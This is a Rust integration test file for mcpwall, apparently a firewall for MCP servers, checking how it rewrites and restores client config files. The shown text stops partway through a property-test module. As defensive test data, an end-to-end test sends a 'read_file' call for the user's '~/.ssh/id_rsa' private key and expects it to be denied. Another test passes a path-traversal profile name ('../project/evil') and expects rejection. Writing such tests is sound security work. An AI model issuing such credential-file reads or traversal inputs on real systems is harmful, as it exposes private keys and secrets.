//! Client integration: `init`, `wrap`, `unwrap`, `status`, `doctor` against a fake HOME and
//! project holding realistic config files of every supported client.
//!
//! `golden/wrap/before/{home,project}` is the starting tree; `golden/wrap/after/` is what
//! wrapping every server makes of it; `golden/wrap/*.stdout` are the reports. Update them
//! with `INSTA_UPDATE=always cargo test --test clients` and review the diff.

use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

fn golden_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("golden/wrap")
}

#[path = "support/sandbox.rs"]
mod sandbox;

use sandbox::{MCPWALL, Sandbox};

/// A sandbox with the starting tree `golden/wrap/before` copied in.
fn sandbox_before() -> Sandbox {
    Sandbox::from_tree(&golden_dir().join("before"))
}

/// What client tests add to the shared sandbox.
trait ClientSandbox {
    /// The sandbox's command with PATH holding this mcpwall first and only the system
    /// directories after it (so wrapped entries say `mcpwall` and no real client is found).
    fn client_command(&self, args: &[&str]) -> Command;
    /// Run [`ClientSandbox::client_command`] with no terminal on stdin.
    fn run_client(&self, args: &[&str]) -> Output;
    /// stdout with the sandbox root replaced by `$TMP`.
    fn stdout(&self, output: &Output) -> String;
    /// Every file under home/ and project/ except mcpwall's own state.
    fn tree(&self) -> Vec<(String, Vec<u8>)>;
}

impl ClientSandbox for Sandbox {
    fn client_command(&self, args: &[&str]) -> Command {
        let bin_dir = Path::new(MCPWALL).parent().unwrap();
        let path = format!("{}:/usr/local/bin:/usr/bin:/bin", bin_dir.display());
        let mut command = self.command(args);
        command.env("PATH", path);
        command
    }

    fn run_client(&self, args: &[&str]) -> Output {
        self.client_command(args).output().unwrap()
    }

    fn stdout(&self, output: &Output) -> String {
        String::from_utf8(output.stdout.clone())
            .unwrap()
            .replace(&self.root().display().to_string(), "$TMP")
    }

    fn tree(&self) -> Vec<(String, Vec<u8>)> {
        let root = self.root();
        let mut files = Vec::new();
        list_files(&root, &root, &mut files);
        files.retain(|(rel, _)| !rel.starts_with("home/.mcpwall/"));
        files
    }
}

fn list_files(root: &Path, dir: &Path, out: &mut Vec<(String, Vec<u8>)>) {
    let mut entries: Vec<_> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    entries.sort();
    for path in entries {
        if path.is_dir() {
            list_files(root, &path, out);
        } else {
            let rel = path
                .strip_prefix(root)
                .unwrap()
                .to_string_lossy()
                .into_owned();
            out.push((rel, std::fs::read(&path).unwrap()));
        }
    }
}

fn updating() -> bool {
    std::env::var("INSTA_UPDATE").is_ok_and(|v| v == "always")
}

/// Compare `actual` with the golden file `rel` (under golden/wrap), or write it when updating.
fn assert_golden(rel: &str, actual: &[u8]) {
    let path = golden_dir().join(rel);
    if updating() {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, actual).unwrap();
        return;
    }
    let expected = std::fs::read(&path).unwrap_or_else(|_| {
        panic!(
            "missing golden file {}; run with INSTA_UPDATE=always",
            path.display()
        )
    });
    if expected != actual {
        let diff = similar::TextDiff::from_lines(
            &*String::from_utf8_lossy(&expected),
            &*String::from_utf8_lossy(actual),
        )
        .unified_diff()
        .header("golden", "actual")
        .to_string();
        panic!("{} differs from the golden file:\n{diff}", path.display());
    }
}

/// Compare the sandbox's client files with `golden/wrap/<name>/`.
fn assert_golden_tree(sandbox: &Sandbox, name: &str) {
    let golden = golden_dir().join(name);
    if updating() {
        let _ = std::fs::remove_dir_all(&golden);
    }
    for (rel, bytes) in sandbox.tree() {
        assert_golden(&format!("{name}/{rel}"), &bytes);
    }
    let mut golden_files = Vec::new();
    list_files(&golden, &golden, &mut golden_files);
    let actual: Vec<_> = sandbox.tree().into_iter().map(|(rel, _)| rel).collect();
    for (rel, _) in golden_files {
        assert!(
            actual.contains(&rel),
            "golden {name}/{rel} has no counterpart"
        );
    }
}

fn code(output: &Output) -> i32 {
    output.status.code().unwrap_or(-1)
}

/// Every stdio server of the fixture, by name.
const WRAPPABLE: &[&str] = &[
    "filesystem",
    "postgres",
    "git",
    "puppeteer",
    "café",
    "github",
    "sqlite",
    "local-tools",
    "fetch",
    "search",
    "time",
    "browser",
    "context7",
    "shell",
    "figma",
    "notes",
    "sentry",
    "docs",
    "linear",
    "hosted",
    "remote",
];

#[test]
fn wrap_every_client_then_unwrap_restores_every_byte() {
    let sandbox = sandbox_before();
    let before = sandbox.tree();
    let mut report = String::new();
    for name in WRAPPABLE {
        let out = sandbox.run_client(&["wrap", name]);
        report.push_str(&format!("$ mcpwall wrap {name}  (exit {})\n", code(&out)));
        report.push_str(&sandbox.stdout(&out));
        assert_eq!(
            code(&out),
            1,
            "the broken Cursor file makes every run exit 1: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    assert_golden("wrap.stdout", report.as_bytes());
    assert_golden_tree(&sandbox, "after");

    // Idempotent: wrapping again changes nothing.
    let wrapped = sandbox.tree();
    for name in WRAPPABLE {
        let out = sandbox.run_client(&["wrap", name]);
        assert!(sandbox.stdout(&out).contains("already wrapped"), "{name}");
    }
    assert_eq!(sandbox.tree(), wrapped);

    // The broken file was reported and never touched.
    assert_eq!(
        sandbox.read("home/.cursor/mcp.json"),
        std::fs::read_to_string(golden_dir().join("before/home/.cursor/mcp.json")).unwrap()
    );

    for name in WRAPPABLE {
        let out = sandbox.run_client(&["unwrap", name]);
        assert!(
            sandbox.stdout(&out).contains("restored"),
            "{name}: {}",
            sandbox.stdout(&out)
        );
    }
    let after_unwrap = sandbox.tree();
    for ((rel, was), (rel2, now)) in before.iter().zip(&after_unwrap) {
        assert_eq!(rel, rel2);
        assert!(
            was == now,
            "{rel} is not restored byte for byte:\n{}",
            String::from_utf8_lossy(now)
        );
    }
    assert_eq!(before.len(), after_unwrap.len());
}

#[test]
fn broken_file_is_reported_with_line_and_column_and_others_still_processed() {
    let sandbox = sandbox_before();
    let out = sandbox.run_client(&["wrap", "github"]);
    let stdout = sandbox.stdout(&out);
    assert!(
        stdout.contains("~/.cursor/mcp.json:6:5 [cursor]\n  error: not valid JSON: key must be a string; left untouched"),
        "{stdout}"
    );
    assert!(
        sandbox
            .read("home/Library/Application Support/Claude/claude_desktop_config.json")
            .contains("\"command\": \"mcpwall\"")
    );
}

#[test]
fn dry_run_prints_unified_diffs_and_writes_nothing() {
    let sandbox = sandbox_before();
    let before = sandbox.tree();
    let out = sandbox.run_client(&["wrap", "search", "--dry-run"]);
    assert_golden("dry-run.stdout", sandbox.stdout(&out).as_bytes());
    let out = sandbox.run_client(&["unwrap", "memory", "--dry-run"]);
    assert!(
        sandbox
            .stdout(&out)
            .contains("+      \"command\": \"npx\",")
    );
    assert_eq!(sandbox.tree(), before);
    assert!(!sandbox.home().join(".mcpwall").exists());
}

#[test]
fn a_codex_remote_entry_is_wrapped_with_its_token_variable_passed_by_name() {
    let sandbox = sandbox_before();
    let out = sandbox.run_client(&["wrap", "figma"]);
    let stdout = sandbox.stdout(&out);
    assert!(stdout.contains("wrapped          figma"), "{stdout}");
    let text = sandbox.read("home/.codex/config.toml");
    assert!(
        text.contains("[mcp_servers.figma]\ncommand = \"mcpwall\"\nargs = [\"--server-name\", \"figma\", \"--upstream\", \"https://mcp.figma.com/mcp\"]\nenv = { MCPWALL_UPSTREAM_BEARER_ENV = \"FIGMA_TOKEN\" }\nenv_vars = [\"FIGMA_TOKEN\"]\n"),
        "{text}"
    );
    let out = sandbox.run_client(&["unwrap", "figma"]);
    assert!(
        sandbox.stdout(&out).contains("restored         figma"),
        "{}",
        sandbox.stdout(&out)
    );
    assert_eq!(sandbox.tree(), sandbox_before().tree());
}

#[test]
fn unwrap_keeps_edits_made_after_wrapping() {
    let sandbox = sandbox_before();
    assert_eq!(code(&sandbox.run_client(&["wrap", "git"])), 1);
    let wrapped = sandbox.read("project/.mcp.json");
    let edited = wrapped.replace("\"cwd\": \".\"", "\"cwd\": \"./src\"");
    assert_ne!(edited, wrapped);
    sandbox.write("project/.mcp.json", &edited);
    let out = sandbox.run_client(&["unwrap", "git"]);
    assert!(
        sandbox
            .stdout(&out)
            .contains("your later edits to the entry were kept"),
        "{}",
        sandbox.stdout(&out)
    );
    let original = std::fs::read_to_string(golden_dir().join("before/project/.mcp.json")).unwrap();
    assert_eq!(
        sandbox.read("project/.mcp.json"),
        original.replace("\"cwd\": \".\"", "\"cwd\": \"./src\"")
    );
}

#[test]
fn unwrap_all_also_unwraps_entries_wrapped_by_hand() {
    let sandbox = sandbox_before();
    let out = sandbox.run_client(&["unwrap", "--all"]);
    let stdout = sandbox.stdout(&out);
    assert!(
        stdout.contains("unwrapped        memory: no wrap record"),
        "{stdout}"
    );
    let text = sandbox.read("home/.claude.json");
    assert!(text.contains(
        "\"memory\": {\n      \"type\": \"stdio\",\n      \"command\": \"npx\",\n      \"args\": [\n        \"-y\",\n        \"@modelcontextprotocol/server-memory\"\n      ],"
    ), "{text}");
}

#[test]
fn wrap_with_config_names_a_file_outside_the_usual_places() {
    let sandbox = Sandbox::new();
    sandbox.write(
        "elsewhere/mcp.json",
        "{\n  \"mcpServers\": {\n    \"x\": { \"command\": \"srv\" }\n  }\n}\n",
    );
    let file = sandbox.root().join("elsewhere/mcp.json");
    let out = sandbox.run_client(&["wrap", "x", "--client-file", file.to_str().unwrap()]);
    assert_eq!(code(&out), 2);
    assert!(String::from_utf8_lossy(&out.stderr).contains("--client"));
    let out = sandbox.run_client(&[
        "wrap",
        "x",
        "--client-file",
        file.to_str().unwrap(),
        "--client",
        "cursor",
    ]);
    assert_eq!(code(&out), 0, "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(
        sandbox.read("elsewhere/mcp.json"),
        "{\n  \"mcpServers\": {\n    \"x\": { \"command\": \"mcpwall\", \"args\": [\"--server-name\", \"x\", \"--\", \"srv\"] }\n  }\n}\n"
    );
    // doctor finds the record's file although discovery does not.
    let doctor = sandbox.stdout(&sandbox.run_client(&["doctor"]));
    assert!(
        doctor.contains("ok    wrap records: 1 record(s)"),
        "{doctor}"
    );
    let out = sandbox.run_client(&[
        "unwrap",
        "x",
        "--config",
        file.to_str().unwrap(),
        "--client",
        "cursor",
    ]);
    assert_eq!(code(&out), 0);
    // The old spelling works, and says what it is called now.
    assert!(String::from_utf8_lossy(&out.stderr).contains("--client-file"));
    assert_eq!(
        sandbox.read("elsewhere/mcp.json"),
        "{\n  \"mcpServers\": {\n    \"x\": { \"command\": \"srv\" }\n  }\n}\n"
    );
}

#[test]
fn unknown_server_name_lists_the_known_ones() {
    let sandbox = sandbox_before();
    let out = sandbox.run_client(&["wrap", "nope"]);
    assert_eq!(code(&out), 2);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("no server named `nope`"), "{stderr}");
    assert!(stderr.contains("filesystem"), "{stderr}");
    assert!(!stderr.contains("did you mean"), "{stderr}");
    // A typo gets the name it meant; so does a client id.
    let out = sandbox.run_client(&["wrap", "filesytem"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("did you mean `filesystem`?"), "{stderr}");
    let out = sandbox.run_client(&["wrap", "--client", "cursr", "filesystem"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("did you mean `cursor`?"), "{stderr}");
}

#[cfg(unix)]
#[test]
fn writes_keep_permissions_and_leave_a_backup() {
    use std::os::unix::fs::PermissionsExt;
    let sandbox = sandbox_before();
    let file = sandbox.home().join(".claude.json");
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o600)).unwrap();
    let original = std::fs::read(&file).unwrap();
    assert_eq!(code(&sandbox.run_client(&["wrap", "filesystem"])), 1);
    let mode = std::fs::metadata(&file).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600);
    let backups: Vec<_> = std::fs::read_dir(sandbox.home().join(".mcpwall/backups"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    assert_eq!(backups.len(), 1, "{backups:?}");
    assert_eq!(std::fs::read(&backups[0]).unwrap(), original);
    let records = sandbox.read("home/.mcpwall/wrapped.json");
    assert!(records.contains("\"filesystem\""), "{records}");
}

#[test]
fn status_shows_what_is_protected() {
    let sandbox = sandbox_before();
    let out = sandbox.run_client(&["status"]);
    // What the kernel offers is this machine's; that status says it is not.
    let stdout: String = sandbox
        .stdout(&out)
        .lines()
        .map(|l| match l.strip_prefix("kernel sandbox: ") {
            Some(_) => "kernel sandbox: (this machine's kernel)\n".to_string(),
            None => format!("{l}\n"),
        })
        .collect();
    assert_golden("status.stdout", stdout.as_bytes());
}

/// For scripts: `status` and `doctor` as one JSON document each, and `status` fails
/// while any server is unprotected (it used to exit 0 with UNPROTECTED servers).
#[test]
fn status_and_doctor_report_as_json_and_status_fails_while_unprotected() {
    let sandbox = sandbox_before();
    let out = sandbox.run_client(&["status", "--format", "json"]);
    assert_eq!(
        code(&out),
        1,
        "unprotected servers: {}",
        sandbox.stdout(&out)
    );
    let v: serde_json::Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}", sandbox.stdout(&out)));
    let servers = v["servers"].as_array().unwrap();
    assert_eq!(v["total"], servers.len() as u64, "{v}");
    assert!(v["unprotected"].as_u64().unwrap() > 0, "{v}");
    assert!(
        servers
            .iter()
            .any(|s| s["state"] == "unprotected" && s["file"] == "~/.claude.json"),
        "{v}"
    );
    assert!(!v["broken_files"].as_array().unwrap().is_empty(), "{v}");
    assert!(!String::from_utf8_lossy(&out.stdout).contains('\x1b'));
    let out = sandbox.run_client(&["doctor", "--format", "json"]);
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let checks = v["checks"].as_array().unwrap();
    assert!(checks.iter().any(|c| c["name"] == "policy"), "{v}");
    assert_eq!(
        code(&out) == 1,
        v["failed"].as_u64().unwrap() > 0,
        "the exit status follows the failures: {v}"
    );
    // One plain server and nothing broken: 1 until it is wrapped, then 0.
    let sandbox = Sandbox::new();
    sandbox.write(
        "home/.claude.json",
        "{\"mcpServers\": {\"notes\": {\"command\": \"sh\", \"args\": [\"-c\", \"cat\"]}}}\n",
    );
    let out = sandbox.run_client(&["status"]);
    assert_eq!(code(&out), 1, "{}", sandbox.stdout(&out));
    assert_eq!(code(&sandbox.run_client(&["wrap", "notes"])), 0);
    let out = sandbox.run_client(&["status"]);
    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
}

#[test]
fn init_needs_yes_without_a_terminal() {
    let sandbox = sandbox_before();
    let profile = any_profile();
    let out = sandbox.run_client(&["init", "--profile", profile]);
    assert_eq!(code(&out), 2);
    assert!(String::from_utf8_lossy(&out.stderr).contains("--yes"));
    assert_eq!(sandbox.tree(), sandbox_before().tree());
}

#[test]
fn init_rejects_unknown_profiles_and_reads_none_from_disk() {
    let sandbox = sandbox_before();
    sandbox.write("project/evil.yml", "version: 1\n");
    for bad in ["evil", "../project/evil", "nope"] {
        let out = sandbox.run_client(&["init", "--yes", "--profile", bad]);
        assert_eq!(code(&out), 2);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(
            stderr.contains(&format!("unknown profile `{bad}`")),
            "{stderr}"
        );
        assert!(stderr.contains("valid profiles"), "{stderr}");
    }
    assert!(!sandbox.home().join(".mcpwall").exists());
}

/// A profile embedded in this build (the packs define them).
fn any_profile() -> &'static str {
    let names = mcpwall::cli::init::profile_names();
    if names.contains(&"local-dev") {
        "local-dev"
    } else {
        names
            .first()
            .copied()
            .expect("no profile is embedded in this build")
    }
}

#[test]
fn init_writes_the_config_and_wraps_everything() {
    let sandbox = sandbox_before();
    let profile = any_profile();
    let out = sandbox.run_client(&["init", "--yes", "--profile", profile]);
    assert_eq!(code(&out), 1, "{}", String::from_utf8_lossy(&out.stderr));
    assert_golden(
        "init.stdout",
        sandbox
            .stdout(&out)
            .replace(&format!("`{profile}`"), "`<profile>`")
            .replace(&format!("--profile {profile}"), "--profile <profile>")
            .as_bytes(),
    );
    assert_golden_tree(&sandbox, "after");
    assert_eq!(
        sandbox.read("home/.mcpwall/mcpwall.yml"),
        mcpwall::cli::init::config_text(profile)
    );
    assert!(
        !sandbox.home().join(".mcpwall/config.yml").exists(),
        "the original's file is never written"
    );
    // A second run changes nothing.
    let tree = sandbox.tree();
    let out = sandbox.run_client(&["init", "--yes", "--profile", profile]);
    assert!(sandbox.stdout(&out).contains("already extends"));
    assert!(sandbox.stdout(&out).contains("no servers to wrap"));
    assert_eq!(sandbox.tree(), tree);
}

#[test]
fn init_keeps_an_existing_config_unless_forced() {
    let sandbox = sandbox_before();
    let profile = any_profile();
    let mine = "version: 1\nextends: [strict]\nrules: []\n";
    sandbox.write("home/.mcpwall/mcpwall.yml", mine);
    // The original's own file, which it can load: left exactly as it is.
    let theirs = "version: 1\nsettings:\n  log_dir: ~/.mcpwall/logs\n  log_level: info\n  default_action: allow\nrules: []\n";
    sandbox.write("home/.mcpwall/config.yml", theirs);
    let out = sandbox.run_client(&["init", "--yes", "--profile", profile]);
    assert!(sandbox.stdout(&out).contains("kept your existing policy"));
    assert_eq!(sandbox.read("home/.mcpwall/mcpwall.yml"), mine);
    let out = sandbox.run_client(&["init", "--yes", "--force", "--profile", profile]);
    assert!(
        sandbox
            .stdout(&out)
            .contains("backed up to ~/.mcpwall/backups/")
    );
    assert_eq!(
        sandbox.read("home/.mcpwall/mcpwall.yml"),
        mcpwall::cli::init::config_text(profile)
    );
    assert_eq!(sandbox.read("home/.mcpwall/config.yml"), theirs);
    let backups = std::fs::read_dir(sandbox.home().join(".mcpwall/backups")).unwrap();
    let kept = backups
        .map(|e| std::fs::read_to_string(e.unwrap().path()).unwrap())
        .any(|t| t == mine);
    assert!(kept);
}

fn doctor_sandbox() -> Sandbox {
    let sandbox = Sandbox::new();
    sandbox.write(
        "home/.claude.json",
        "{\n  \"mcpServers\": {\n    \"ok\": { \"command\": \"sh\", \"args\": [\"-c\", \"cat\"] },\n    \"gone\": { \"command\": \"no-such-server-binary\" }\n  }\n}\n",
    );
    sandbox.write(
        "project/.cursor/mcp.json",
        "{\n  \"mcpServers\": {\n    \"x\": \"\n}\n",
    );
    for name in ["ok", "gone"] {
        assert_eq!(code(&sandbox.run_client(&["wrap", name])), 1);
    }
    sandbox
}

#[test]
fn doctor_says_what_to_fix() {
    let sandbox = doctor_sandbox();
    // A file where the log directory should be: it cannot be created.
    sandbox.write("home/.mcpwall/logs", "not a directory");
    let out = sandbox.run_client(&["doctor"]);
    let stdout = sandbox.stdout(&out);
    assert_eq!(code(&out), 1, "{stdout}");
    for expected in [
        "ok    policy: loads and compiles",
        "FAIL  log directory: ~/.mcpwall/logs is not writable",
        "FAIL  cursor config: ./.cursor/mcp.json:3:10: not valid JSON",
        "ok    claude-code/ok: protected; `sh` found",
        "FAIL  claude-code/gone: the server command `no-such-server-binary` is not found on PATH",
        "      fix: install it, or put its absolute path in ~/.claude.json",
    ] {
        assert!(
            stdout.contains(expected),
            "missing {expected:?} in:\n{stdout}"
        );
    }
    std::fs::remove_file(sandbox.home().join(".mcpwall/logs")).unwrap();
    sandbox.write("project/.cursor/mcp.json", "{}");
    sandbox.write(
        "home/.claude.json",
        "{\"mcpServers\": {\"ok\": {\"command\": \"mcpwall\", \"args\": [\"--\", \"sh\"]}}}",
    );
    let out = sandbox.run_client(&["doctor"]);
    assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
}

#[test]
fn doctor_reports_a_policy_that_does_not_load() {
    let sandbox = doctor_sandbox();
    sandbox.write(
        "home/.mcpwall/config.yml",
        "version: 1\nrules:\n  - nonsense: [\n",
    );
    let out = sandbox.run_client(&["doctor"]);
    let stdout = sandbox.stdout(&out);
    assert_eq!(code(&out), 1, "{stdout}");
    assert!(
        stdout.contains("FAIL  policy: does not load: ~/.mcpwall/config.yml:3:"),
        "{stdout}"
    );
    assert!(
        stdout.contains("fix: run `mcpwall explain-policy`"),
        "{stdout}"
    );
}

/// Read stdout lines of a child until it closes, or fail after `secs`.
fn read_lines_with_timeout(mut stdout: std::process::ChildStdout, secs: u64) -> Vec<String> {
    use std::io::Read;
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let mut text = String::new();
        let _ = stdout.read_to_string(&mut text);
        let _ = tx.send(text);
    });
    let text = rx
        .recv_timeout(std::time::Duration::from_secs(secs))
        .expect("the wrapped server did not finish in time");
    text.lines().map(str::to_string).collect()
}

#[test]
fn e2e_wrapped_command_from_the_rewritten_file_denies_and_unwrap_restores_bytes() {
    // With no policy file (the built-in default pack), and as `init` sets things up.
    e2e_scenario(&["wrap", "files"]);
    e2e_scenario(&["init", "--yes", "--profile", "local-dev"]);
}

fn e2e_scenario(setup: &[&str]) {
    use std::io::Write;
    let sandbox = Sandbox::new();
    let original = "{\n  \"mcpServers\": {\n    \"files\": {\n      \"command\": \"sh\",\n      \"args\": [\"-c\", \"cat\"],\n      \"env\": {}\n    }\n  }\n}\n";
    sandbox.write("home/.claude.json", original);
    let out = sandbox.run_client(setup);
    assert_eq!(code(&out), 0, "{}", String::from_utf8_lossy(&out.stderr));

    // Start exactly what the rewritten file says, the way Claude Code would.
    let rewritten: serde_json::Value =
        serde_json::from_str(&sandbox.read("home/.claude.json")).unwrap();
    let entry = &rewritten["mcpServers"]["files"];
    let command = entry["command"].as_str().unwrap();
    assert_eq!(command, "mcpwall");
    let args: Vec<&str> = entry["args"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a.as_str().unwrap())
        .collect();
    let bin_dir = Path::new(MCPWALL).parent().unwrap();
    let mut child = Command::new(bin_dir.join(command))
        .args(&args)
        .current_dir(sandbox.project())
        .env_clear()
        .env("HOME", sandbox.home())
        .env("PATH", format!("{}:/usr/bin:/bin", bin_dir.display()))
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let key = sandbox.home().join(".ssh/id_rsa");
    let call = serde_json::json!({
        "jsonrpc": "2.0",
        "id": 7,
        "method": "tools/call",
        "params": {"name": "read_file", "arguments": {"path": key.display().to_string()}}
    });
    let allowed = serde_json::json!({
        "jsonrpc": "2.0",
        "id": 8,
        "method": "tools/call",
        "params": {"name": "read_file", "arguments": {"path": sandbox.project().join("README.md").display().to_string()}}
    });
    let mut stdin = child.stdin.take().unwrap();
    writeln!(stdin, "{call}").unwrap();
    writeln!(stdin, "{allowed}").unwrap();
    drop(stdin);
    let lines = read_lines_with_timeout(child.stdout.take().unwrap(), 20);
    let _ = child.kill();
    let _ = child.wait();
    let frames: Vec<serde_json::Value> = lines
        .iter()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{l:?}: {e}")))
        .collect();
    // `cat` echoes whatever reaches it: the denied call must not come back as a request,
    // the allowed one must (so the proxy really is in the path and forwarding).
    let echoed: Vec<_> = frames
        .iter()
        .filter(|f| f.get("method").is_some())
        .collect();
    assert_eq!(echoed, [&allowed], "{lines:?}");
    let denial = frames
        .iter()
        .find(|f| f["id"] == 7)
        .unwrap_or_else(|| panic!("no answer to the call: {lines:?}"));
    assert!(
        denial.get("error").is_some() || denial["result"]["isError"] == true,
        "{denial}"
    );

    // The audit log names the server by the name the wrapped entry passed, and keeps the
    // denied argument out.
    let logs = sandbox.home().join(".mcpwall/logs");
    let audit: String = std::fs::read_dir(&logs)
        .unwrap_or_else(|e| panic!("no audit log in {}: {e}", logs.display()))
        .map(|e| std::fs::read_to_string(e.unwrap().path()).unwrap())
        .collect();
    assert!(
        audit
            .lines()
            .any(|l| l.contains("\"server\":\"files\"") && l.contains("\"action\":\"deny\"")),
        "{audit}"
    );
    assert!(!audit.contains("id_rsa"), "{audit}");

    let out = sandbox.run_client(&["unwrap", "files"]);
    assert_eq!(code(&out), 0);
    assert_eq!(sandbox.read("home/.claude.json"), original);
}

#[test]
fn every_profile_init_writes_loads_and_keeps_the_default_pack() {
    let opts = mcpwall::config::LoadOptions {
        explicit: None,
        home: "/home/someone".into(),
        project_dir: "/home/someone/project".into(),
    };
    let default = mcpwall::config::load_str("d.yml", "version: 1\nextends: [default]\n", &opts)
        .expect("the default pack loads");
    assert!(!default.rules.is_empty(), "the default pack has rules");
    let names = mcpwall::cli::init::profile_names();
    assert!(
        names.contains(&"local-dev") && names.contains(&"strict"),
        "{names:?}"
    );
    for profile in names {
        let text = mcpwall::cli::init::config_text(profile);
        let policy = mcpwall::config::load_str("config.yml", &text, &opts)
            .unwrap_or_else(|e| panic!("{profile}: {e:?}"));
        for rule in &default.rules {
            assert!(
                policy.rules.iter().any(|r| r.name.value == rule.name.value),
                "profile {profile} drops default rule {}",
                rule.name.value
            );
        }
        let sandbox = Sandbox::new();
        let out = sandbox.run_client(&["init", "--yes", "--profile", profile]);
        assert_eq!(code(&out), 0, "{}", String::from_utf8_lossy(&out.stderr));
        let out = sandbox.run_client(&["doctor"]);
        let stdout = sandbox.stdout(&out);
        assert!(
            stdout.contains("ok    policy: loads and compiles"),
            "{profile}: {stdout}"
        );
    }
}

mod edit_props {
    //! The splicing editor against generated configs in many layouts: wrapping produces the
    //! documented entry and leaves everything else equal; every way back is byte-exact.
    use mcpwall::clients::EntryState;
    use mcpwall::clients::edit;
    use mcpwall::clients::json_span::{Dialect, parse};
    use proptest::prelude::*;
    use serde_json::Value;

    #[derive(Debug, Clone)]
    struct Style {
        indent: Option<&'static str>,
        colon: &'static str,
        crlf: bool,
        trailing_newline: bool,
        comments: bool,
    }

    #[derive(Debug, Clone)]
    struct Entry {
        name: String,
        command: String,
        args: Option<Vec<String>>,
        extra: Vec<(String, Value)>,
    }

    fn text_strategy() -> impl Strategy<Value = String> {
        prop_oneof![
            "[a-z@/._-]{1,12}",
            "[ -~]{0,8}",
            "\\PC{0,6}",
            Just("--".to_string()),
            Just("tab\there \"quoted\" back\\slash".to_string()),
        ]
    }

    fn entry_strategy() -> impl Strategy<Value = Entry> {
        (
            "[a-z][a-z0-9-]{0,8}",
            text_strategy(),
            proptest::option::of(proptest::collection::vec(text_strategy(), 0..4)),
            proptest::sample::subsequence(vec!["type", "cwd", "env", "timeout"], 0..=4),
        )
            .prop_map(|(name, command, args, extra)| Entry {
                name,
                command,
                args,
                extra: extra
                    .into_iter()
                    .map(|k| {
                        let v = match k {
                            "type" => Value::from("stdio"),
                            "cwd" => Value::from("/srv"),
                            "env" => serde_json::json!({"K": "v"}),
                            _ => Value::from(30000),
                        };
                        (k.to_string(), v)
                    })
                    .collect(),
            })
    }

    fn style_strategy() -> impl Strategy<Value = Style> {
        (
            prop_oneof![
                Just(None),
                Just(Some("  ")),
                Just(Some("    ")),
                Just(Some("\t"))
            ],
            prop_oneof![Just(": "), Just(":"), Just(" : ")],
            any::<bool>(),
            any::<bool>(),
            any::<bool>(),
        )
            .prop_map(|(indent, colon, crlf, trailing_newline, comments)| Style {
                indent,
                colon,
                crlf,
                trailing_newline,
                comments,
            })
    }

    /// Render `{"mcpServers": {entries}}` in `style`; the command key comes after `type`
    /// when both exist, other extras go after args, so positions vary.
    fn render(entries: &[Entry], style: &Style) -> String {
        let nl = if style.crlf { "\r\n" } else { "\n" };
        let (open_nl, ind) = match style.indent {
            Some(i) => (nl, i),
            None => ("", ""),
        };
        let sep = if style.indent.is_some() {
            format!(",{nl}")
        } else {
            ",".to_string()
        };
        let pad = |depth: usize| ind.repeat(depth);
        let s = |v: &str| serde_json::to_string(v).unwrap();
        let mut out = format!(
            "{{{open_nl}{}\"mcpServers\"{}{{{open_nl}",
            pad(1),
            style.colon
        );
        let mut rendered_entries = Vec::new();
        for e in entries {
            let mut members = Vec::new();
            for (k, v) in e.extra.iter().filter(|(k, _)| k == "type") {
                members.push(format!("{}{}{}{}", pad(3), s(k), style.colon, v));
            }
            members.push(format!(
                "{}\"command\"{}{}",
                pad(3),
                style.colon,
                s(&e.command)
            ));
            if let Some(args) = &e.args {
                let items: Vec<_> = args.iter().map(|a| s(a)).collect();
                members.push(format!(
                    "{}\"args\"{}[{}]",
                    pad(3),
                    style.colon,
                    items.join(", ")
                ));
            }
            for (k, v) in e.extra.iter().filter(|(k, _)| k != "type") {
                members.push(format!("{}{}{}{}", pad(3), s(k), style.colon, v));
            }
            let comment = if style.comments && style.indent.is_some() {
                format!("{}// {}{nl}", pad(2), e.name)
            } else {
                String::new()
            };
            rendered_entries.push(format!(
                "{comment}{}{}{}{{{open_nl}{}{open_nl}{}}}",
                pad(2),
                s(&e.name),
                style.colon,
                members.join(&sep),
                pad(2)
            ));
        }
        out.push_str(&rendered_entries.join(&sep));
        out.push_str(&format!("{open_nl}{}}}{open_nl}}}", pad(1)));
        if style.trailing_newline {
            out.push_str(nl);
        }
        out
    }

    fn value_of(text: &str, dialect: Dialect) -> Value {
        let root = parse(text, dialect).unwrap();
        to_value(text, &root)
    }

    /// A serde_json value of a span-tracked node (works for JSONC too).
    fn to_value(text: &str, node: &mcpwall::clients::json_span::Node) -> Value {
        use mcpwall::clients::json_span::Kind;
        match &node.kind {
            Kind::Object(members) => Value::Object(
                members
                    .iter()
                    .map(|m| (m.key.clone(), to_value(text, &m.value)))
                    .collect(),
            ),
            Kind::Array(items) => Value::Array(items.iter().map(|i| to_value(text, i)).collect()),
            Kind::String(s) => Value::from(s.clone()),
            Kind::Scalar => serde_json::from_str(&text[node.span.clone()]).unwrap(),
        }
    }

    fn json_value() -> impl Strategy<Value = Value> {
        let leaf = prop_oneof![
            Just(Value::Null),
            any::<bool>().prop_map(Value::from),
            any::<i64>().prop_map(Value::from),
            any::<f64>()
                .prop_filter("finite", |f| f.is_finite())
                .prop_map(Value::from),
            "\\PC{0,8}".prop_map(Value::from),
        ];
        leaf.prop_recursive(4, 32, 4, |inner| {
            prop_oneof![
                proptest::collection::vec(inner.clone(), 0..4).prop_map(Value::Array),
                proptest::collection::btree_map("\\PC{0,6}", inner, 0..4)
